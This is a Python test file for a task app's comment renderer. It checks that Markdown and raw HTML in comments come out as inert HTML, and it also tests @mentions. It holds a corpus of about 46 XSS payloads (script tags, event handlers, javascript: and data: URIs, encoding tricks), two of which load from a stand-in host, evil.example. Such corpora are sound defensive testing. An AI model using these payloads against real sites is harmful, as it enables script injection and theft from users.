"""Comment bodies render to safe HTML: an XSS corpus through the renderer and through the
API, and the Markdown people actually write."""

import re
from html.parser import HTMLParser
from typing import Any
from uuid import uuid4

import httpx
import pytest

from tasksync.comments.markdown import render
from tests.helpers.comments import comment_on
from tests.helpers.rooms import RoleRoom

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](  \n javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    '![img"onerror="alert(1)](https://example.com/x.png)',
    '[a](https://example.com "title\\" onmouseover=alert(1)")',
    '[x](https://example.com"onclick="alert(1))',
    "[[nested](javascript:alert(1))](https://example.com)",
    "[![img](x)](javascript:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    '<https://example.com/"onclick=alert(1)>',
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "@<script>alert(1)</script>",
]
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td", "img",
}  # fmt: skip
SAFE_SCHEMES = ("http:", "https:", "mailto:")
# A URL scheme as browsers read it (RFC 3986); anything else makes a relative URL.
SCHEME = re.compile(r"^[a-z][a-z0-9+.-]*:")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    """Only allowed tags; no event handlers or styles; every URL http(s), mailto or
    relative (`java%09script:` is a relative path: `%` cannot be in a scheme); every link
    `rel="nofollow noopener"`."""
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name != "style", (name, html)
            if name in ("href", "src"):
                # Browsers drop tabs and newlines inside a URL: `java\tscript:` is a scheme.
                url = "".join(ch for ch in value or "" if ch > " ").lower()
                scheme = SCHEME.match(url)
                assert scheme is None or scheme.group(0) in SAFE_SCHEMES, (value, html)
        if tag == "a":
            assert attrs.get("rel") == "nofollow noopener", html


class TestSanitising:
    def test_the_corpus_is_large_enough(self) -> None:
        assert len(XSS) >= 30

    @pytest.mark.parametrize("payload", XSS)
    def test_no_payload_renders_executable_html(self, payload: str) -> None:
        assert_inert(render(payload, {}).html)

    @pytest.mark.parametrize("payload", XSS)
    def test_no_payload_renders_executable_html_around_a_mention(self, payload: str) -> None:
        user_id = uuid4()
        rendered = render(f"@ana {payload} @ana", {"ana": user_id})
        assert_inert(rendered.html)
        assert rendered.mentioned == [user_id]

    def test_raw_html_stays_visible_as_text(self) -> None:
        html = render("<b>hi</b>", {}).html
        assert "&lt;b&gt;hi&lt;/b&gt;" in html

    def test_markdown_people_write_renders(self) -> None:
        html = render(
            "# Plan\n\n- **bold** and _em_ and ~~gone~~\n- [docs](https://example.com)\n\n"
            "1. `code`\n\n> quoted",
            {},
        ).html
        for fragment in (
            "<h1>Plan</h1>",
            "<strong>bold</strong>",
            "<em>em</em>",
            "<s>gone</s>",
            '<a href="https://example.com" rel="nofollow noopener">docs</a>',
            "<code>code</code>",
            "<blockquote>",
        ):
            assert fragment in html


class TestMentions:
    def test_a_member_mentioned_becomes_a_link_and_others_stay_text(self) -> None:
        ana = uuid4()
        rendered = render("@ana and @bob, mail ana@example.com, `@ana`, thanks @ana.", {"ana": ana})
        assert rendered.html.count(f'href="/users/{ana}"') == 2
        assert "@bob" in rendered.html
        assert "ana@example.com" in rendered.html
        assert rendered.mentioned == [ana]

    def test_a_mention_inside_a_link_stays_text(self) -> None:
        ana = uuid4()
        rendered = render("[hi @ana](https://example.com)", {"ana": ana})
        assert rendered.mentioned == []


class TestThroughTheApi:
    async def test_every_payload_is_stored_as_sent_and_shown_inert(
        self, client: httpx.AsyncClient, room: RoleRoom, task: dict[str, Any]
    ) -> None:
        # Three authors: one person alone would reach the limit on writing comments.
        authors = (room.member, room.admin, room.owner)
        for i, payload in enumerate(XSS):
            comment = await comment_on(client, authors[i % 3], task["id"], payload)
            assert comment["body"] == payload
            assert_inert(comment["body_html"])
